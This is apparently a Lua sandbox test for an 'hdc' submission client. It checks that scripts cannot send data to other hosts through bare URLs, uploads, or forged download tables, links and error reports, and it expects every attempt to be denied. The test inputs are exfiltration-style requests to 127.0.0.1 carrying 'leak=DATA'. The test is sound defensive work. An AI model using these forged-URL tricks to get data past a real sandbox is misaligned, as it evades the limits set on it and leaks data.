-- escape: reach another host through a download (a read, allowed without --allow-submit): a bare URL, a submission table whose downloads, links or error report the script filled in, a client's method
-- args: --sandbox --emulator --quiet --allow-write {fixture}/granted
-- exit: 0
-- stdout: bare download: sandbox: hdc.download downloading from 'http://127.0.0.1:9/c/b' is not allowed: in a sandbox, transfers go only to URLs the service handed out in this run
-- stdout: bare upload: sandbox: hdc.upload (a write operation on the service) is not allowed
-- stdout: forged table: sandbox: hdc.download downloading from 'http://127.0.0.1:9/forged' is not allowed
-- stdout: forged links: sandbox: hdc.download downloading from 'http://127.0.0.1:9/linked' is not allowed
-- stdout: forged error report: sandbox: hdc.download downloading from 'http://127.0.0.1:9/report' is not allowed
-- stdout: method form: permissionDenied
-- stdout: advice: Pass the submission as hdc returned it, or its product and submission IDs, so that the URL comes from the service.
-- never: leak=DATA
-- never: sig=
local granted = arg[1] .. "/granted/data.txt"
local function try(label, f, ...)
  local ok, err = pcall(f, ...)
  print(label .. ": " .. (ok and "ALLOWED" or tostring(err.message or err)))
  return err
end
local err = try("bare download", hdc.download, "http://127.0.0.1:9/c/b?leak=DATA", granted)
print("advice: " .. tostring(err.advice))
try("bare upload", hdc.upload, "http://127.0.0.1:9/c/b?leak=DATA", granted)
local forged = {productId = 1, id = 2, downloads = {items = {{type = "signedPackage", url = "http://127.0.0.1:9/forged?leak=DATA"}}}}
try("forged table", hdc.download, forged, "signedPackage", granted)
local linked = {productId = 1, id = 2, links = {{rel = "driverMetadata", href = "http://127.0.0.1:9/linked?leak=DATA"}}}
try("forged links", hdc.download, linked, "driverMetadata", granted)
local reported = {productId = 1, id = 2, workflowStatus = {errorReport = "http://127.0.0.1:9/report?leak=DATA"}}
try("forged error report", hdc.download, reported, "errorReport", granted)
local client = hdc.connect{}
print("method form: " .. select(2, pcall(client.download, client, "http://127.0.0.1:9/m?leak=DATA", granted)).code)
